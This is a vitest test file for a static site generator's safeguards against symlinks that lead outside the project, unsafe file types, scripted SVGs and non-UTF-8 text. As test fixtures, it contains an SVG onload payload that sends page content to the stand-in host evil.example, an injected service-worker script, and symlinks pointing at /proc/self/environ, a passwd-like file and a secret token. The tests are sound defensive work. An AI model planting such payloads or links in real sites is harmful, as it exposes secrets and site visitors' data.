import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { build } from '../../src/build.ts';
import { formatDiagnosticLine } from '../../src/diagnostics/print.ts';
import { memoryWriter } from '../../src/output/write.ts';
import { headersForPath, parseHeadersFile } from '../../src/security/headers-file.ts';
import { SVG_POLICY } from '../../src/security/headers.ts';
import { createSite } from '../../templates/site.ts';
import { smallSiteWith } from '../helpers/fixture-site.ts';

const folders: string[] = [];
afterAll(() => {
  for (const folder of folders) fs.rmSync(folder, { recursive: true, force: true });
});

/** The small site in a temporary folder, with `prepare` adding files to its content. */
async function buildWith(prepare: (content: string, publicDir: string) => void) {
  const { root, content } = smallSiteWith();
  folders.push(root);
  const publicDir = path.join(root, 'public');
  fs.cpSync(path.resolve('templates/public'), publicDir, { recursive: true });
  prepare(content, publicDir);
  const writer = memoryWriter();
  // Social images are slow to draw and beside the point.
  const result = await build({ ...createSite(content), publicDir, og: undefined }, writer);
  const lines = result.diagnostics.map((d) => `${formatDiagnosticLine(d, root)}  [${d.code}]`);
  return { root, content, result, writer, lines };
}

/** A folder outside the project holding a secret, an /etc/passwd-like file and a page. */
function outsideFolder(): string {
  const outside = fs.mkdtempSync(path.join(os.tmpdir(), 'outside-project-'));
  folders.push(outside);
  fs.writeFileSync(path.join(outside, 'passwd'), 'root:x:0:0:root:/root:/bin/bash\n');
  fs.writeFileSync(path.join(outside, 'secret.txt'), 'TOKEN=outside-secret\n');
  fs.writeFileSync(
    path.join(outside, 'page.md'),
    '---\ntitle: Outside page\ndescription: A page from outside the project that must never be published as a page.\n---\nFrom outside.\n',
  );
  return outside;
}

describe('symlinks under the content and public folders', () => {
  it('never reads or publishes what a link leads to outside the project: an error at each link, naming its target', async () => {
    const outside = outsideFolder();
    const { writer, result, lines } = await buildWith((content, publicDir) => {
      const images = path.join(content, 'images');
      fs.symlinkSync(path.join(outside, 'secret.txt'), path.join(publicDir, 'leak.txt'));
      fs.symlinkSync('/proc/self/environ', path.join(images, 'env.txt'));
      fs.symlinkSync(path.join(outside, 'passwd'), path.join(images, 'passwd.txt'));
      fs.symlinkSync(outside, path.join(images, 'outside-folder'));
      fs.symlinkSync(path.join(outside, 'page.md'), path.join(content, 'blogs', 'outside.md'));
      fs.symlinkSync(path.resolve('node_modules/react/package.json'), path.join(images, 'react.json'));
      fs.symlinkSync(path.resolve('package.json'), path.join(images, 'inside.json'));
    });
    expect(writer.files.size).toBe(0);
    const outsideLink = (relative: string, target: string) =>
      `content/${relative}  symlink: leads to ${target}, outside the project: nothing outside the project is read or published  [symlink-outside-project]`;
    expect(lines).toEqual(
      expect.arrayContaining([
        outsideLink('images/env.txt', `"/proc/self/environ" (${fs.realpathSync('/proc/self/environ')})`),
        outsideLink('images/passwd.txt', JSON.stringify(path.join(outside, 'passwd'))),
        outsideLink('images/outside-folder', JSON.stringify(outside)),
        outsideLink('blogs/outside.md', JSON.stringify(path.join(outside, 'page.md'))),
        `public/leak.txt  symlink: leads to ${JSON.stringify(path.join(outside, 'secret.txt'))}, outside the project: nothing outside the project is read or published  [symlink-outside-project]`,
        expect.stringMatching(
          /^content\/images\/react\.json {2}symlink: leads to ".*node_modules\/react\/package\.json".*, (into node_modules\/, which a build never reads from|outside the project: .*) {2}\[symlink-outside-project\]$/,
        ),
        // Inside the project but outside the content and public folders: nothing that could be published anyway (issue 39).
        `content/images/inside.json  symlink: leads to ${JSON.stringify(path.resolve('package.json'))}, outside the content and public folders: a link may lead only to a file those folders publish  [symlink-not-publishable]`,
      ]),
    );
    expect(lines).toHaveLength(7);
    // The outside page never became an entry.
    expect(result.routes.map((route) => route.url)).not.toContain('/blogs/outside');
  });

  it('reports a loop at the link instead of a bare ELOOP', async () => {
    const { writer, lines } = await buildWith((content) => {
      const images = path.join(content, 'images');
      fs.symlinkSync('loop.txt', path.join(images, 'loop.txt'));
      fs.symlinkSync('.', path.join(images, 'here'));
    });
    expect(writer.files.size).toBe(0);
    expect(lines).toEqual([
      expect.stringMatching(
        /^content\/images\/here {2}symlink: is a loop: it leads to "\/.*\/content\/images", back to itself or to a folder that holds it {2}\[symlink-loop\]$/,
      ),
      'content/images/loop.txt  symlink: is a loop: it leads to "loop.txt", back to itself or to a folder that holds it  [symlink-loop]',
    ]);
  });

  it('publishes a link that stays inside the project as the file it leads to', async () => {
    const { writer, lines } = await buildWith((content) => fs.symlinkSync('logo.svg', path.join(content, 'images', 'logo-copy.svg')));
    expect(lines).toEqual([]);
    expect(Buffer.from(writer.files.get('images/logo-copy.svg')!).toString()).toBe(
      fs.readFileSync(path.resolve('tests/fixtures/small-site/content/images/logo.svg'), 'utf8'),
    );
  });
});

describe('files of the content folder', () => {
  it('refuses pages, scripts and any type not on the list at their path, the vectors of issue 25 included', async () => {
    const code = ['page.html', 'x.js', 'm.mjs', 'c.cjs', 'w.wasm', 'feed.xml', 'doc.xhtml', 'old.htm', 'art.svgz', 'LICENSE'];
    const media = ['report.pdf', 'notes.txt', 'table.csv', 'data.json', 'clip.mp4', 'font.woff2'];
    const { writer, lines } = await buildWith((content) => {
      const images = path.join(content, 'images');
      fs.writeFileSync(path.join(images, 'page.html'), '<!doctype html><script src="/images/x.js"></script>');
      fs.writeFileSync(
        path.join(images, 'x.js'),
        "document.cookie = 'ga_consent_v2=granted'; navigator.serviceWorker.register('/images/x.js');",
      );
      for (const name of [...code.slice(2), ...media]) fs.writeFileSync(path.join(images, name), 'x');
    });
    expect(writer.files.size).toBe(0);
    expect(lines.sort()).toEqual(
      code
        .map((name) => {
          const extension = name.includes('.') ? name.slice(name.lastIndexOf('.')) : '(no extension)';
          return `content/images/${name}:1  file type: expected Markdown, or a picture, video, sound, PDF, font or plain-data file (.png, .svg, .mp4, .mp3, .pdf, .woff2, .txt, .csv, .json, …), found ${JSON.stringify(extension)}  [unsafe-file-type]`;
        })
        .sort(),
    );
  });

  it('publishes pictures, video, sound, PDF, fonts and plain data as they are', async () => {
    const media = ['report.pdf', 'notes.txt', 'table.csv', 'data.json', 'clip.mp4', 'song.mp3', 'font.woff2', 'DATA.JSON'];
    const { writer, lines } = await buildWith((content) => {
      for (const name of media) fs.writeFileSync(path.join(content, 'images', name), name);
    });
    expect(lines).toEqual([]);
    for (const name of media) expect(Buffer.from(writer.files.get(`images/${name}`) ?? []).toString(), name).toBe(name);
  });
});

describe('SVG of the content folder', () => {
  it('refuses an SVG with a script and an onload handler, each at its line, and writes nothing', async () => {
    const { writer, lines } = await buildWith((content) =>
      fs.writeFileSync(
        path.join(content, 'images', 'evil.svg'),
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"\n  onload="fetch(\'/\').then(r => r.text()).then(t => navigator.sendBeacon(\'https://evil.example\', t))">\n<script href="/images/x.js"/>\n<script>document.cookie = "ga_consent_v2=granted"</script>\n</svg>\n',
      ),
    );
    expect(writer.files.size).toBe(0);
    expect(lines).toEqual([
      expect.stringMatching(
        /^content\/images\/evil\.svg:1 {2}<svg onload>: is an event-handler attribute, which runs code, found "fetch.*\[unsafe-svg\]$/,
      ),
      'content/images/evil.svg:3  <script>: is not allowed in an SVG of the content folder: it runs code or holds a document that can  [unsafe-svg]',
      'content/images/evil.svg:4  <script>: is not allowed in an SVG of the content folder: it runs code or holds a document that can  [unsafe-svg]',
    ]);
  });

  it('serves every SVG with a policy of its own under which no script runs, even opened directly', async () => {
    const { writer, lines } = await buildWith(() => {});
    expect(lines).toEqual([]);
    const rules = parseHeadersFile(Buffer.from(writer.files.get('_headers')!).toString());
    for (const svg of ['/images/logo.svg', '/images/badges/secret.svg', '/favicon.svg']) {
      const policies = headersForPath(rules, svg).get('content-security-policy')!.split(', ');
      expect(policies, svg).toEqual([expect.stringContaining("script-src 'self'"), SVG_POLICY]);
    }
    expect(SVG_POLICY).toMatch(/script-src 'none'.*; sandbox$/);
    expect(headersForPath(rules, '/images/logo.svg.html').get('content-security-policy')!.split(', ')).toHaveLength(1);
  });
});

describe('text that is not UTF-8', () => {
  it('is a warning at the first line holding such bytes, and the page still builds', async () => {
    const { writer, result } = await buildWith((content) => {
      const post = path.join(content, 'blogs', 'first-post.md');
      const lines = fs.readFileSync(post, 'utf8').trimEnd().split('\n');
      // "café" saved as Windows-1252: é is the single byte 0xE9.
      fs.writeFileSync(
        post,
        Buffer.concat([Buffer.from(`${lines.join('\n')}\n\nA caf`), Buffer.from([0xe9]), Buffer.from(' in Lisbon.\n')]),
      );
    });
    const post = result.diagnostics.filter((d) => d.code === 'invalid-utf8');
    expect(post).toEqual([
      expect.objectContaining({ severity: 'warning', file: expect.stringMatching(/blogs\/first-post\.md$/), line: expect.any(Number) }),
    ]);
    const text = fs.readFileSync(post[0]!.file!);
    expect(text.toString('latin1').split('\n')[post[0]!.line! - 1]).toBe('A café in Lisbon.');
    expect(result.diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
    expect(writer.files.size).toBeGreaterThan(0);
  });
});
